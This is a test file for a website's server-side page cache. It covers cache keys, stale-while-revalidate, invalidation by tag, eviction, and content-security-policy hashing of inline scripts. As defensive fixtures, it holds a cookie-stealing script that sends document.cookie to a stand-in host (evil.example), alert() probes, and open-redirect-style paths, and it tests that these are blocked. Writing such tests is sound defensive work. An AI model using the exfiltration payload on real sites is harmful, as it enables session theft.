import { createHash } from "node:crypto";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { PageQuery } from "@shared/page-query.ts";
import { isLivePage } from "@shared/pages.ts";
import express from "express";
import { afterEach, describe, expect, it } from "vitest";
import { silentLogger } from "../core/log.ts";
import {
  createPageCache,
  ownInlineScripts,
  pageKey,
  policyWithHashes,
  type RenderedPage,
} from "./page-cache.ts";
import type { PageQueryOf } from "./route-queries.ts";

/** As the gallery's album route declares it: ?photo=N, and ?size=… for the test of sorting. */
const albumQuery: PageQueryOf = (pathname): PageQuery =>
  pathname.startsWith("/gallery/") ? { photo: /^[1-9]\d{0,3}$/, size: /^(small|large)$/ } : {};

describe("pageKey", () => {
  const key = (method: string, url: string) => pageKey(method, url, albumQuery);

  it("keys page requests by path and the query parameters the page reads, sorted", () => {
    expect(key("GET", "/services")).toBe("/services");
    expect(key("HEAD", "/gallery/patios?size=large&photo=2")).toBe("/gallery/patios?photo=2&size=large");
  });

  it("drops every parameter the page does not read, so made-up and tagged addresses share one page", () => {
    expect(key("GET", "/?utm_source=facebook&utm_campaign=spring&fbclid=x1&gclid=y2")).toBe("/");
    expect(key("GET", "/quote?service=patio&x=123")).toBe("/quote");
    expect(key("GET", "/gallery/patios?photo=3&x=1&photo=4")).toBe("/gallery/patios?photo=3");
  });

  it("drops a value the page would not act on, so it cannot make a page of its own", () => {
    expect(key("GET", "/gallery/patios?photo=abc")).toBe("/gallery/patios");
    expect(key("GET", "/gallery/patios?photo=003")).toBe("/gallery/patios");
  });

  it("never keys a post, an API, a client navigation's data or a file", () => {
    expect(key("POST", "/contact")).toBeNull();
    expect(key("GET", "/api/wp/options/cta")).toBeNull();
    expect(key("GET", "/.netlify/functions/contact")).toBeNull();
    expect(key("GET", "/services/patios.data")).toBeNull();
    // The router's manifest answers by its query: dropping it would answer another version's routes.
    expect(key("GET", "/__manifest?p=%2Fabout&p=%2Ffaq&version=abc123")).toBeNull();
    expect(key("GET", "/sitemap.xml")).toBeNull();
    expect(key("GET", "/favicon.ico")).toBeNull();
  });

  it("never keys a live page, whose open windows change while it is open, nor its data", () => {
    expect(key("GET", "/book")).toBeNull();
    expect(key("HEAD", "/book?day=2026-12-08")).toBeNull();
    expect(key("GET", "/book.data?day=2026-12-08")).toBeNull();
    expect(isLivePage("/book")).toBe(true);
    expect(isLivePage("/book.data")).toBe(true);
    expect(isLivePage("/quote")).toBe(false);
    expect(isLivePage("/quote.data")).toBe(false);
  });

  it("never keys a path that reads as another host, so none is rendered as one", () => {
    for (const url of [
      "//evil.example/services",
      "/\\evil.example/",
      "/%2F%2Fevil.example/",
      "/%5Cevil.example",
    ])
      expect(key("GET", url), url).toBeNull();
  });
});

describe("inline script hashes", () => {
  const sha = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;

  it("hashes the scripts that carry the render's nonce, as the browser does, and takes the nonce out", () => {
    const html = [
      '<script nonce="n0nce">window.a=1</script>',
      '<script nonce="n0nce" type="module">import("/assets/x.js")</script>',
      '<script nonce="n0nce" type="module" src="/assets/entry.js"></script>',
      '<script type="application/ld+json">{"@type":"LocalBusiness"}</script>',
      '<script nonce="n0nce">window.a=1</script>',
    ].join("");
    const own = ownInlineScripts(html, "n0nce");
    expect(own.hashes).toEqual([sha("window.a=1"), sha('import("/assets/x.js")')]);
    expect(own.html).not.toContain("n0nce");
    expect(own.html).toContain('<script type="module">import("/assets/x.js")</script>');
  });

  it("never allows a script that came in with the content: it cannot carry the render's nonce", () => {
    const html = [
      '<script nonce="n0nce">window.a=1</script>',
      // From a WordPress field: no nonce, a guessed one, the attribute spelled another way.
      "<p>Our work</p><script>fetch('//evil.example/'+document.cookie)</script>",
      '<script nonce="guess">alert(1)</script>',
      "<script nonce='n0nce'>alert(2)</script>",
    ].join("");
    expect(ownInlineScripts(html, "n0nce").hashes).toEqual([sha("window.a=1")]);
  });

  it("replaces the nonce in script-src with the hashes and leaves every other directive alone", () => {
    const policy = "default-src 'self';script-src 'self' 'nonce-abc123';style-src 'self' 'unsafe-inline'";
    expect(policyWithHashes(policy, ["'sha256-AA='", "'sha256-BB='"])).toBe(
      "default-src 'self';script-src 'self' 'sha256-AA=' 'sha256-BB=';style-src 'self' 'unsafe-inline'",
    );
  });
});

describe("the page cache", () => {
  let close = () => {};
  afterEach(() => close());

  async function serve(options: { freshMs: number | null; render: (key: string) => Promise<RenderedPage> }) {
    let clock = 1_000_000;
    const cache = createPageCache({
      ...options,
      pageQuery: albumQuery,
      log: silentLogger,
      now: () => clock,
      maxEntries: 3,
      maxVariants: 2,
    });
    const app = express();
    app.use(cache.middleware);
    app.use((_req, res) => res.status(418).send("not from the cache"));
    const origin = await new Promise<string>((resolve) => {
      const server = app.listen(0, "127.0.0.1", () => {
        close = () => server.close();
        resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
      });
    });
    return {
      cache,
      get: (path: string) => fetch(origin + path),
      advance: (ms: number) => {
        clock += ms;
      },
    };
  }

  function page(status: number, text: string): RenderedPage {
    return {
      status,
      headers: new Headers({ "content-type": "text/html; charset=utf-8" }),
      body: Buffer.from(text),
    };
  }

  it("renders a page once for any number of simultaneous first views", async () => {
    let renders = 0;
    const site = await serve({
      freshMs: null,
      render: async () => {
        renders += 1;
        await new Promise((resolve) => setTimeout(resolve, 50));
        return page(200, "<h1>Home</h1>");
      },
    });
    const answers = await Promise.all(Array.from({ length: 10 }, () => site.get("/")));
    expect(answers.map((a) => a.status)).toEqual(Array(10).fill(200));
    expect(renders).toBe(1);
  });

  it("serves a stale page at once while one render replaces it in the background", async () => {
    let version = 1;
    let renders = 0;
    const site = await serve({
      freshMs: 60_000,
      render: async () => {
        renders += 1;
        return page(200, `<h1>Version ${version}</h1>`);
      },
    });
    expect(await (await site.get("/faq")).text()).toBe("<h1>Version 1</h1>");
    version = 2;
    site.advance(30_000);
    const fresh = await site.get("/faq");
    expect([fresh.headers.get("x-cache"), await fresh.text()]).toEqual(["HIT", "<h1>Version 1</h1>"]);
    site.advance(31_000);
    const stale = await site.get("/faq");
    expect([stale.headers.get("x-cache"), await stale.text()]).toEqual(["STALE", "<h1>Version 1</h1>"]);
    await expect.poll(async () => (await site.get("/faq")).text()).toBe("<h1>Version 2</h1>");
    expect(renders).toBe(2);
  });

  it("answers a fresh hit before the app is entered, with every header the app sent the page with", async () => {
    let clock = 1_000_000;
    const cache = createPageCache({
      freshMs: 60_000,
      render: async (_key, nonce) =>
        page(
          200,
          `<h1>Driveways</h1><script nonce="${nonce}">window.a=1</script><script>window.b=2</script>`,
        ),
      pageQuery: albumQuery,
      log: silentLogger,
      now: () => clock,
    });
    let reachedApp = 0;
    const app = express();
    app.use((_req, res, next) => {
      reachedApp += 1;
      res.setHeader("X-Frame-Options", "SAMEORIGIN");
      res.setHeader("Content-Security-Policy", "script-src 'self' 'nonce-abc'");
      next();
    });
    app.use(cache.middleware);
    const server = createServer((req, res) => {
      if (!cache.serveFresh(req, res)) app(req, res);
    });
    const origin = await new Promise<string>((resolve) => {
      server.listen(0, "127.0.0.1", () =>
        resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`),
      );
    });
    close = () => server.close();
    const headersOf = (response: Response) =>
      Object.fromEntries([...response.headers].filter(([name]) => !["date", "x-cache"].includes(name)));

    const miss = await fetch(`${origin}/services/driveways`);
    const hit = await fetch(`${origin}/services/driveways?utm_source=ad`);
    expect([miss.headers.get("x-cache"), hit.headers.get("x-cache"), reachedApp]).toEqual(["MISS", "HIT", 1]);
    expect(await hit.text()).toBe(await miss.text());
    expect(headersOf(hit)).toEqual(headersOf(miss));
    const policy = hit.headers.get("content-security-policy") ?? "";
    expect(policy).toContain(ownInlineScripts('<script nonce="x">window.a=1</script>', "x").hashes[0]);
    expect(policy).not.toContain(ownInlineScripts('<script nonce="x">window.b=2</script>', "x").hashes[0]);
    expect(policy).not.toContain("'nonce-");

    const unchanged = await fetch(`${origin}/services/driveways`, {
      headers: { "If-None-Match": miss.headers.get("etag") ?? "" },
    });
    expect([unchanged.status, reachedApp]).toEqual([304, 1]);
    const brotli = await fetch(`${origin}/services/driveways`, { headers: { "Accept-Encoding": "br" } });
    expect([brotli.headers.get("content-encoding"), await brotli.text()]).toEqual([
      "br",
      await (await fetch(`${origin}/services/driveways`)).text(),
    ]);

    // Past its freshness the app answers again (stale while one render replaces it); a post never skips the app.
    clock += 61_000;
    expect((await fetch(`${origin}/services/driveways`)).headers.get("x-cache")).toBe("STALE");
    expect(reachedApp).toBe(2);
    await fetch(`${origin}/services/driveways`, { method: "POST" });
    expect(reachedApp).toBe(3);
  });

  it("drops every page when told everything changed, so the next view is rendered fresh", async () => {
    let version = 1;
    const site = await serve({
      freshMs: 3_600_000,
      render: async (key) => page(200, `<h1>${key} version ${version}</h1>`),
    });
    await site.get("/faq");
    await site.get("/about");
    version = 2;
    expect(await (await site.get("/faq")).text()).toBe("<h1>/faq version 1</h1>");
    const dropped = site.cache.invalidate();
    expect([dropped.dropped, dropped.pages.sort()]).toEqual([2, ["/about", "/faq"]]);
    const next = await site.get("/faq");
    expect([next.headers.get("x-cache"), await next.text()]).toEqual(["MISS", "<h1>/faq version 2</h1>"]);
    expect((await site.get("/faq")).headers.get("x-cache")).toBe("HIT");
  });

  it("does not keep a render that began before the content changed", async () => {
    let version = 1;
    const site = await serve({
      freshMs: 3_600_000,
      render: async () => {
        const rendering = version;
        await new Promise((resolve) => setTimeout(resolve, 100));
        return page(200, `<h1>Version ${rendering}</h1>`);
      },
    });
    const early = site.get("/faq");
    await new Promise((resolve) => setTimeout(resolve, 20));
    version = 2;
    site.cache.invalidate();
    expect(await (await early).text()).toBe("<h1>Version 1</h1>");
    expect(await (await site.get("/faq")).text()).toBe("<h1>Version 2</h1>");
  });

  /** A page that says what it was made from, as the app's render tags it (server/content/page-tags.ts). */
  function tagged(text: string, tags: string[] | undefined, picturesMade?: Promise<unknown>): RenderedPage {
    return { ...page(200, text), tags, picturesMade };
  }
  const showsTown = (tags: ReadonlySet<string> | undefined) => !tags || tags.has("town");

  it("drops only the pages made from what changed, and those that say nothing of what they were made from", async () => {
    let version = 1;
    const renders: string[] = [];
    const site = await serve({
      freshMs: 3_600_000,
      render: async (key) => {
        renders.push(key);
        const tags = { "/town": ["list", "town"], "/faq": ["faq"] }[key];
        return tagged(`<h1>${key} version ${version}</h1>`, tags);
      },
    });
    for (const path of ["/town", "/faq", "/untagged"]) await site.get(path);
    version = 2;
    const dropped = site.cache.invalidate(showsTown);
    expect([dropped.dropped, dropped.pages.sort()]).toEqual([2, ["/town", "/untagged"]]);
    const faq = await site.get("/faq");
    expect([faq.headers.get("x-cache"), await faq.text()]).toEqual(["HIT", "<h1>/faq version 1</h1>"]);
    for (const path of ["/town", "/untagged"]) {
      const fresh = await site.get(path);
      expect([fresh.headers.get("x-cache"), await fresh.text()]).toEqual([
        "MISS",
        `<h1>${path} version 2</h1>`,
      ]);
    }
    expect(renders.filter((key) => key === "/faq")).toHaveLength(1);
  });

  it("keeps a render under way when the change is not on its page, and not when it is", async () => {
    let version = 1;
    const site = await serve({
      freshMs: 3_600_000,
      render: async (key) => {
        const rendering = version;
        await new Promise((resolve) => setTimeout(resolve, 100));
        return tagged(`<h1>${key} version ${rendering}</h1>`, [key === "/town" ? "town" : "faq"]);
      },
    });
    const early = [site.get("/town"), site.get("/faq")];
    await new Promise((resolve) => setTimeout(resolve, 20));
    version = 2;
    site.cache.invalidate(showsTown);
    expect(await Promise.all(early.map(async (answer) => (await answer).text()))).toEqual([
      "<h1>/town version 1</h1>",
      "<h1>/faq version 1</h1>",
    ]);
    const faq = await site.get("/faq");
    expect([faq.headers.get("x-cache"), await faq.text()]).toEqual(["HIT", "<h1>/faq version 1</h1>"]);
    const town = await site.get("/town");
    expect([town.headers.get("x-cache"), await town.text()]).toEqual(["MISS", "<h1>/town version 2</h1>"]);
  });

  it("renders a page once more when the new pictures it showed are made, and a page without new pictures once", async () => {
    let made = () => {};
    const picturesMade = new Promise<void>((resolve) => {
      made = resolve;
    });
    const renders: string[] = [];
    let placeholder = "none";
    const site = await serve({
      freshMs: 3_600_000,
      render: async (key) => {
        renders.push(key);
        const text = `<h1>${key}, placeholder ${placeholder}</h1>`;
        // Every render of the album names a picture still being made: it is made again once only.
        return tagged(text, ["album"], key === "/album" ? picturesMade : undefined);
      },
    });
    await site.get("/album");
    await site.get("/faq");
    placeholder = "#a0b0c0";
    made();
    await expect
      .poll(async () => (await site.get("/album")).text())
      .toBe("<h1>/album, placeholder #a0b0c0</h1>");
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(renders.sort()).toEqual(["/album", "/album", "/faq"]);
    expect(await (await site.get("/faq")).text()).toBe("<h1>/faq, placeholder none</h1>");
  });

  it("keeps only documents: an answer of another type is rendered every time", async () => {
    let renders = 0;
    const site = await serve({
      freshMs: null,
      render: async () => {
        renders += 1;
        return {
          status: 200,
          headers: new Headers({ "content-type": "application/json" }),
          body: Buffer.from("{}"),
        };
      },
    });
    await site.get("/feed");
    const second = await site.get("/feed");
    expect([second.headers.get("x-cache"), renders]).toEqual(["MISS", 2]);
  });

  it("keeps a not-found page briefly, and never keeps an error", async () => {
    let renders = 0;
    const site = await serve({
      freshMs: null,
      render: async (key) => {
        renders += 1;
        return key === "/broken" ? page(500, "<h1>Error</h1>") : page(404, "<h1>404</h1>");
      },
    });
    await site.get("/missing");
    expect((await site.get("/missing")).headers.get("x-cache")).toBe("HIT");
    site.advance(30_001);
    expect((await site.get("/missing")).headers.get("x-cache")).toBe("MISS");
    expect(renders).toBe(2);
    expect((await site.get("/broken")).status).toBe(500);
    expect((await site.get("/broken")).headers.get("x-cache")).toBe("MISS");
  });

  it("keeps the most recently served pages when it is full", async () => {
    const site = await serve({ freshMs: null, render: async (key) => page(200, key) });
    for (const path of ["/a", "/b", "/c", "/a", "/d"]) await site.get(path);
    expect(site.cache.size).toBe(3);
    expect((await site.get("/a")).headers.get("x-cache")).toBe("HIT");
    expect((await site.get("/b")).headers.get("x-cache")).toBe("MISS");
  });

  it("renders a page once for any number of made-up query parameters", async () => {
    const rendered: string[] = [];
    const site = await serve({
      freshMs: null,
      render: async (key) => {
        rendered.push(key);
        return page(200, `<h1>${key}</h1>`);
      },
    });
    for (let n = 0; n < 50; n++) expect((await site.get(`/services?x=${n}`)).status).toBe(200);
    expect(rendered).toEqual(["/services"]);
    expect(site.cache.size).toBe(1);
  });

  it("keeps not-found pages and pages with a query apart, so they never push the site's pages out", async () => {
    const site = await serve({
      freshMs: null,
      render: async (key) => (key.startsWith("/missing") ? page(404, "<h1>404</h1>") : page(200, key)),
    });
    for (const path of ["/a", "/b", "/c"]) await site.get(path);
    for (let n = 1; n <= 20; n++) {
      await site.get(`/missing-${n}`);
      await site.get(`/gallery/patios?photo=${n}`);
    }
    expect(site.cache.size).toBe(3 + 2);
    for (const path of ["/a", "/b", "/c"])
      expect((await site.get(path)).headers.get("x-cache"), path).toBe("HIT");
  });

  it("hands a page it cannot render to the router's own handler", async () => {
    const site = await serve({
      freshMs: null,
      render: async () => {
        throw new Error("render failed");
      },
    });
    expect((await site.get("/")).status).toBe(418);
  });
});
